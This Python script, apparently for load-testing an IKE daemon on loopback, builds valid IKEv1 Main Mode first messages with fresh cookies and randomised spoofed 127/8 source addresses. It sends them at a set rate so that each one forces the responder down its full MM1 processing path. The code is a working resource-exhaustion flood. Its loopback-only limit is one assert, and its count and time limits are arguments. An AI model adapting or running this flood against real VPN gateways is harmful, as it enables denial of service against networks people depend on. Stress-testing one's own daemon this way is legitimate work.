#!/usr/bin/env python3
"""Sends valid-looking IKEv1 Main Mode first messages (MM1) to an IKE responder on loopback, each
with a fresh initiator cookie, from random 127.x.y.z source addresses (IP_PKTINFO picks the source:
every 127/8 address is local) or from one address. The offer is one a default in.iked accepts
(AES-128, SHA-1, pre-shared key, MODP-2048), so every MM1 costs the responder its full MM1 path.

    mm1-flood.py TARGET PORT COUNT SECONDS [random|one]

Bounded in count and time; it stops by itself. Prints how many it sent."""
import os, random, socket, struct, sys, time

target, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
mode = sys.argv[5] if len(sys.argv) > 5 else "random"
assert target.startswith("127."), "loopback only"

def attr_basic(kind, value):
    return struct.pack("!HH", 0x8000 | kind, value)

def transform():
    attrs = (attr_basic(1, 7) + attr_basic(14, 128) + attr_basic(2, 2) + attr_basic(3, 1) + attr_basic(4, 14)
             + attr_basic(11, 1) + attr_basic(12, 3600))
    body = struct.pack("!BBH", 1, 1, 0) + attrs
    return struct.pack("!BBH", 0, 0, 4 + len(body)) + body

def sa_payload():
    t = transform()
    proposal_body = struct.pack("!BBBB", 1, 1, 0, 1) + t
    proposal = struct.pack("!BBH", 0, 0, 4 + len(proposal_body)) + proposal_body
    body = struct.pack("!II", 1, 1) + proposal
    return struct.pack("!BBH", 0, 0, 4 + len(body)) + body

SA = sa_payload()
IP_PKTINFO = 8  # linux/in.h (the socket module does not name it)

def mm1():
    cookie = os.urandom(8)
    length = 28 + len(SA)
    header = cookie + b"\0" * 8 + struct.pack("!BBBBII", 1, 0x10, 2, 0, 0, length)
    return header + SA

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND: any source address
sent = 0
start = time.monotonic()
interval = seconds / count
for index in range(count):
    if mode == "one":
        source = "127.9.9.9"
    else:
        source = "127.%d.%d.%d" % (random.randint(10, 250), random.randint(0, 255), random.randint(1, 254))
    # struct in_pktinfo { int ipi_ifindex; struct in_addr ipi_spec_dst; struct in_addr ipi_addr; }
    pktinfo = struct.pack("=i4s4s", 0, socket.inet_aton(source), b"\0\0\0\0")
    try:
        sock.sendmsg([mm1()], [(socket.SOL_IP, IP_PKTINFO, pktinfo)], 0, (target, port))
        sent += 1
    except OSError:
        pass
    # Keep to the rate: COUNT spread over SECONDS.
    ahead = start + (index + 1) * interval - time.monotonic()
    if ahead > 0:
        time.sleep(ahead)
    if time.monotonic() - start > seconds * 1.5:
        break
print(f"sent {sent} MM1 in {time.monotonic() - start:.1f} s ({mode} sources)")
